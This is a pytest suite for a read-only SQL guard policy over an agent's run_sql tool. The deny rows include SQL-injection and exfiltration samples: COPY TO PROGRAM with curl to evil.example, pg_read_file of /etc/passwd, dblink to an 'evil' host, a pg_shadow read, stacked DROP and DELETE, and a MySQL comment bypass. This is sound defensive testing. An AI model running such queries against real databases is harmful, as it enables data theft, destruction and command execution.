"""policies/sql-readonly: each row is a `run_sql` query, the decision it must get, the rules
behind it and, for an allowed query, the query that is actually sent (the row cap)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

import railguard
from railguard.policylang.lint import lint

HERE = Path(__file__).parent
SAME = object()  # the query is sent as written: no rewrite


@pytest.fixture(scope="module")
def guard() -> railguard.Guard:
    return railguard.load(HERE)


def call(tool: str, **args: Any) -> dict[str, Any]:
    return {"kind": "call", "tool": tool, "args": args, "session": "s-test"}


def sql(query: Any) -> dict[str, Any]:
    return call("run_sql", query=query)


def allow(name: str, query: str, sent: Any = SAME) -> Any:
    """An allowed query; `sent` is the rewritten query the verdict carries (`SAME`: none)."""
    return pytest.param(sql(query), "allow", [], sent, id=name)


def deny(name: str, query: Any, *rules: str) -> Any:
    return pytest.param(
        sql(query), "deny", sorted("sql_readonly." + r for r in rules), None, id=name
    )


# (event, decision, rule ids of the violations, the query sent after the row cap)
ROWS = [
    # -- reads: the row cap adds a LIMIT, lowers a higher one, keeps a lower one ---------------
    allow("select", "SELECT id FROM orders", "SELECT id FROM orders LIMIT 1000"),
    allow(
        "lower case, trailing semicolon",
        "select id, total from orders where status = 'open';",
        "select id, total from orders where status = 'open' LIMIT 1000;",
    ),
    allow("limit under the cap is kept", "SELECT id FROM orders LIMIT 10"),
    allow("limit at the cap is kept", "SELECT id FROM orders LIMIT 1000"),
    allow(
        "limit over the cap is lowered",
        "SELECT id FROM orders ORDER BY id LIMIT 5000",
        "SELECT id FROM orders ORDER BY id LIMIT 1000",
    ),
    allow(
        "limit over the cap keeps its offset",
        "SELECT id FROM orders ORDER BY id LIMIT 5000 OFFSET 200",
        "SELECT id FROM orders ORDER BY id LIMIT 1000 OFFSET 200",
    ),
    allow(
        "LIMIT ALL is capped",
        "SELECT id FROM orders LIMIT ALL",
        "SELECT id FROM orders LIMIT 1000",
    ),
    allow(
        "FETCH FIRST over the cap is lowered",
        "SELECT id FROM orders ORDER BY id FETCH FIRST 5000 ROWS ONLY",
        "SELECT id FROM orders ORDER BY id FETCH FIRST 1000 ROWS ONLY",
    ),
    allow(
        "FETCH FIRST under the cap is kept",
        "SELECT id FROM orders ORDER BY id FETCH FIRST 10 ROWS ONLY",
    ),
    allow(
        "join",
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id",
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id LIMIT 1000",
    ),
    allow(
        "schema-qualified allowed table",
        "SELECT region, sum(amount) FROM sales.daily GROUP BY region",
        "SELECT region, sum(amount) FROM sales.daily GROUP BY region LIMIT 1000",
    ),
    allow(
        "unquoted names fold to lower case",
        "SELECT ID FROM ORDERS",
        "SELECT ID FROM ORDERS LIMIT 1000",
    ),
    allow(
        "CTE names are not tables",
        "WITH big AS (SELECT * FROM orders WHERE total > 100) SELECT count(*) FROM big",
        "WITH big AS (SELECT * FROM orders WHERE total > 100) SELECT count(*) FROM big LIMIT 1000",
    ),
    allow(
        "set operation is capped as a whole",
        "SELECT id FROM orders UNION SELECT id FROM customers",
        "SELECT id FROM orders UNION SELECT id FROM customers LIMIT 1000",
    ),
    allow(
        "subquery limit is left alone",
        "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers LIMIT 5000)",
        "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers LIMIT 5000)"
        " LIMIT 1000",
    ),
    allow(
        "window function",
        "SELECT id, rank() OVER (PARTITION BY region ORDER BY total DESC) FROM orders LIMIT 50",
    ),
    allow(
        "keywords inside names and strings",
        "SELECT updated_at, deleted FROM orders WHERE note = 'drop table; delete' LIMIT 5",
    ),
    allow(
        "comment is kept",
        "SELECT id FROM orders -- open ones\nWHERE status = 'open' LIMIT 3",
    ),
    allow("no table at all", "SELECT 1", "SELECT 1 LIMIT 1000"),
    # -- writes and everything else that is not a plain read -----------------------------------
    deny("delete", "DELETE FROM orders WHERE id = 1", "read_only"),
    deny("delete without where", "delete from orders", "read_only"),
    deny("update", "UPDATE orders SET total = 0 WHERE id = 1", "read_only"),
    deny("insert", "INSERT INTO orders (id) VALUES (1)", "read_only"),
    deny("insert from select", "INSERT INTO orders SELECT * FROM customers", "read_only"),
    deny(
        "merge",
        "MERGE INTO orders o USING customers c ON o.customer_id = c.id"
        " WHEN MATCHED THEN UPDATE SET total = 0",
        "read_only",
    ),
    deny("drop", "DROP TABLE orders", "read_only"),
    deny("truncate", "TRUNCATE orders", "read_only"),
    deny("alter", "ALTER TABLE orders ADD COLUMN x int", "read_only"),
    deny("create table of another name", "CREATE TABLE t (a int)", "read_only", "known_tables"),
    deny(
        "create table as select",
        "CREATE TABLE t AS SELECT * FROM orders",
        "read_only",
        "known_tables",
    ),
    deny("grant", "GRANT SELECT ON orders TO PUBLIC", "read_only"),
    deny("revoke", "REVOKE SELECT ON orders FROM PUBLIC", "read_only"),
    deny("begin", "BEGIN", "read_only"),
    deny("commit", "COMMIT", "read_only"),
    deny("set", "SET search_path TO admin", "read_only"),
    deny("select into", "SELECT * INTO backup FROM orders", "read_only", "known_tables"),
    deny("locking read", "SELECT * FROM orders FOR UPDATE", "read_only"),
    deny("shared locking read", "SELECT * FROM orders FOR SHARE", "read_only"),
    deny(
        "data-modifying CTE",
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
        "read_only",
    ),
    deny("copy to program", "COPY orders TO PROGRAM 'curl http://evil.example'", "read_only"),
    deny("explain analyze of a delete", "EXPLAIN ANALYZE DELETE FROM orders", "read_only"),
    deny("do block", "DO $$ BEGIN DELETE FROM orders; END $$", "read_only"),
    deny("call", "CALL refresh_orders()", "read_only"),
    deny("prepare", "PREPARE q AS DELETE FROM orders", "read_only"),
    deny("execute", "EXECUTE q", "read_only"),
    deny(
        "state-changing function",
        "SELECT nextval('orders_id_seq')",
        "read_only",
        "dangerous_functions",
    ),
    deny("mysql executable comment", "/*!50000 DROP TABLE orders */ SELECT 1", "read_only"),
    # -- stacked statements -------------------------------------------------------------------
    deny("stacked drop", "SELECT 1; DROP TABLE orders", "read_only", "one_statement"),
    deny("stacked reads", "SELECT id FROM orders; SELECT id FROM customers", "one_statement"),
    deny(
        "stacked after a comment",
        "SELECT * FROM orders /* report */;DELETE/**/FROM customers",
        "read_only",
        "one_statement",
    ),
    deny(
        "stacked, mixed case",
        "SeLeCt * FrOm orders; dRoP tAbLe customers",
        "read_only",
        "one_statement",
    ),
    # -- tables outside the allowlist ---------------------------------------------------------
    deny("unknown table", "SELECT * FROM users", "known_tables"),
    deny("unknown table in a join", "SELECT * FROM orders JOIN users ON true", "known_tables"),
    deny(
        "unknown table in a subquery",
        "SELECT * FROM orders WHERE customer_id IN (SELECT id FROM users)",
        "known_tables",
    ),
    deny(
        "unknown table in a CTE",
        "WITH u AS (SELECT * FROM users) SELECT * FROM u",
        "known_tables",
    ),
    deny(
        "unknown table in a union",
        "SELECT id FROM orders UNION ALL SELECT id FROM users",
        "known_tables",
    ),
    deny("other schema", "SELECT * FROM public.orders", "known_tables"),
    deny("system catalog", "SELECT * FROM pg_catalog.pg_shadow", "known_tables"),
    deny("quoted name keeps its case", 'SELECT * FROM "Orders"', "known_tables"),
    deny(
        "CTE named like a table does not hide a schema-qualified one",
        "WITH orders AS (SELECT 1) SELECT * FROM admin.orders",
        "known_tables",
    ),
    # -- denylisted functions -----------------------------------------------------------------
    deny("pg_sleep", "SELECT pg_sleep(10)", "dangerous_functions"),
    deny("pg_read_file", "SELECT PG_READ_FILE('/etc/passwd')", "dangerous_functions"),
    deny(
        "dblink",
        "SELECT * FROM orders WHERE id = (SELECT dblink('host=evil', 'select 1'))",
        "dangerous_functions",
    ),
    deny("mysql sleep", "SELECT sleep(5) FROM orders", "dangerous_functions"),
    deny(
        "denylisted function inside a CTE",
        "WITH s AS (SELECT pg_sleep(1) AS x) SELECT x FROM s",
        "dangerous_functions",
    ),
    # -- text that does not parse: fails closed (see test_unparseable_text_fails_closed) --------
    # (the row cap does not run on a call already denied: it will not be sent)
    deny(
        "unterminated string",
        "SELECT * FROM orders WHERE id = 'x",
        "read_only",
        "known_tables",
        "dangerous_functions",
        "one_statement",
    ),
    deny(
        "half a query",
        "SELECT * FROM orders WHERE",
        "read_only",
        "known_tables",
        "dangerous_functions",
        "one_statement",
    ),
    deny(
        "empty query",
        "",
        "read_only",
        "known_tables",
        "dangerous_functions",
        "one_statement",
    ),
    deny(
        "only a comment",
        "-- nothing here",
        "read_only",
        "known_tables",
        "dangerous_functions",
        "one_statement",
    ),
    deny(
        "query is not a string",
        42,
        "read_only",
        "known_tables",
        "dangerous_functions",
        "one_statement",
    ),
    pytest.param(
        call("run_sql"),
        "deny",
        [
            "sql_readonly.dangerous_functions",
            "sql_readonly.known_tables",
            "sql_readonly.one_statement",
            "sql_readonly.read_only",
        ],
        None,
        id="missing query",
    ),
    # -- other tools ----------------------------------------------------------------------------
    pytest.param(call("list_tables"), "allow", [], SAME, id="list_tables"),
    pytest.param(call("drop_database"), "deny", ["sql_readonly.default"], None, id="unknown tool"),
    pytest.param(
        call("Run_SQL", query="SELECT 1"), "deny", ["sql_readonly.default"], None, id="tool case"
    ),
]


@pytest.mark.parametrize(("event", "decision", "rules", "sent"), ROWS)
def test_decision(
    guard: railguard.Guard, event: dict[str, Any], decision: str, rules: list[str], sent: Any
) -> None:
    verdict = guard.evaluate(event)
    assert verdict.decision == decision, verdict.explain()
    assert sorted(v.rule for v in verdict.violations) == rules, verdict.explain()
    if decision != "allow":
        assert verdict.args is None, "a denied call is not rewritten"
    elif sent is SAME:
        assert verdict.args is None, verdict.explain()
        assert not verdict.rewritten
    else:
        assert verdict.args == {**event["args"], "query": sent}, verdict.explain()
        assert [r.rule for r in verdict.redactions] == ["sql_readonly.row_cap"]


def _allowed_rows() -> list[Any]:
    return [p for p in ROWS if p.values[1] == "allow" and p.values[0]["tool"] == "run_sql"]


@pytest.mark.parametrize(("event", "decision", "rules", "sent"), _allowed_rows())
def test_the_query_sent_is_allowed_as_it_is(
    guard: railguard.Guard, event: dict[str, Any], decision: str, rules: list[str], sent: Any
) -> None:
    """The rewritten query passes every rule again, and the cap does not move a second time."""
    query = event["args"]["query"] if sent is SAME else sent
    again = guard.evaluate(sql(query))
    assert again.allowed, again.explain()
    assert again.args is None, again.args


@pytest.mark.parametrize(
    ("query", "mentions"),
    [
        pytest.param(
            "SELECT 1; DROP TABLE orders", ['"statement": 2', "DROP TABLE orders"], id="drop"
        ),
        pytest.param(
            "SELECT id FROM orders; DELETE FROM customers WHERE id = 7",
            ['"statement": 2', "DELETE FROM customers WHERE id = 7"],
            id="stacked delete",
        ),
        pytest.param(
            "UPDATE orders SET total = 0 WHERE id = 1",
            ['"statement": 1', "UPDATE orders SET total = 0 WHERE id = 1"],
            id="update",
        ),
        pytest.param(
            "SELECT * FROM orders FOR UPDATE", ['"statement": 1', "FOR UPDATE"], id="locking read"
        ),
        pytest.param(
            "WITH g AS (DELETE FROM orders RETURNING *) SELECT * FROM g",
            ["DELETE FROM orders"],
            id="data-modifying CTE",
        ),
    ],
)
def test_write_messages_name_the_statement_and_quote_it(
    guard: railguard.Guard, query: str, mentions: list[str]
) -> None:
    verdict = guard.evaluate(sql(query))
    (violation,) = [v for v in verdict.violations if v.rule == "sql_readonly.read_only"]
    assert violation.error is None
    for text in mentions:
        assert text in violation.message, violation.message


@pytest.mark.parametrize(
    ("query", "rule", "named", "not_named"),
    [
        pytest.param(
            "SELECT * FROM orders JOIN users ON true JOIN audit.log ON true",
            "sql_readonly.known_tables",
            ['"users"', '"audit.log"'],
            ['"orders"'],
            id="tables",
        ),
        pytest.param(
            "SELECT upper(name), pg_sleep(1), pg_read_file('/etc/passwd') FROM customers",
            "sql_readonly.dangerous_functions",
            ['"pg_sleep"', '"pg_read_file"'],
            ['"upper"'],
            id="functions",
        ),
    ],
)
def test_messages_name_exactly_the_offending_names(
    guard: railguard.Guard, query: str, rule: str, named: list[str], not_named: list[str]
) -> None:
    verdict = guard.evaluate(sql(query))
    assert verdict.denied
    (violation,) = [v for v in verdict.violations if v.rule == rule]
    for name in named:
        assert name in violation.message, violation.message
    for name in not_named:
        assert name not in violation.message, violation.message


@pytest.mark.parametrize(
    ("query", "quoted"),
    [
        pytest.param(
            "SELECT * FROM orders WHERE id = 'x", "cannot be split into tokens", id="unterminated"
        ),
        pytest.param("SELECT * FROM orders WHERE", "line 1, column", id="half a query"),
        pytest.param("SELECT (1", "line 1, column", id="open parenthesis"),
        pytest.param("SELECT * FROM (SELECT 1", "line 1, column", id="open subquery"),
        pytest.param("", "empty", id="empty"),
    ],
)
def test_unparseable_text_fails_closed_with_the_parsers_message(
    guard: railguard.Guard, query: str, quoted: str
) -> None:
    verdict = guard.evaluate(sql(query))
    assert verdict.denied, verdict.explain()
    assert verdict.args is None
    checks = [v for v in verdict.violations if v.rule != "sql_readonly.default"]
    assert checks, verdict.explain()
    for violation in checks:
        assert violation.error, verdict.explain()
        assert quoted in violation.error, violation.error
        assert "could not be checked" in violation.message
        assert "sqlglot" not in violation.error and "<" not in violation.error, violation.error
        where = (violation.details or {}).get("sql", {})
        assert where.get("dialect") == "postgres", violation.details
        if "line 1, column" in violation.error:
            assert f"line {where['line']}, column {where['column']}" in violation.error


def test_every_rule_is_exercised(guard: railguard.Guard) -> None:
    fired = {"sql_readonly.default"}
    rewritten = False
    for param in ROWS:
        fired.update(param.values[2])
        rewritten = rewritten or (param.values[1] == "allow" and param.values[3] is not SAME)
    (policy,) = guard.policies
    checked = {r.id for r in policy.rules if r.effect not in ("allow", "redact")}
    assert checked - fired == set()
    assert rewritten, "no row exercises the row cap"


def test_the_policy_lints_clean() -> None:
    assert [str(d) for d in lint(HERE)] == []
